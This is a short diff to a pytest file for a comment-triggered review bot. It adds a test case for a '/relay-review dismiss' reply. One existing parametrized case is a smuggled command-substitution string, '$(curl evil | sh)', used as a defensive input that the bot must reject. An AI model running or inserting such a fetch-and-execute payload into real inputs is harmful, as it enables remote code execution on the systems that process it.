@@ -223,6 +223,9 @@ def test_trigger_comment_reviews_the_current_head(
         ("/relay-review", "CONTRIBUTOR", "association CONTRIBUTOR is not in"),
         ("Looks good; /relay-review later", "OWNER", "does not start with /relay-review"),
         ("$(curl evil | sh) /relay-review", "OWNER", "does not start with /relay-review"),
+        # a maintainer's thread reply word, posted on the pull request: it asked the models
+        # again (a helper's audit); it is a reply in a finding's thread
+        ("/relay-review dismiss", "OWNER", "works as a reply in a finding's review thread"),
     ],
 )
 def test_anyone_else_gets_nothing(
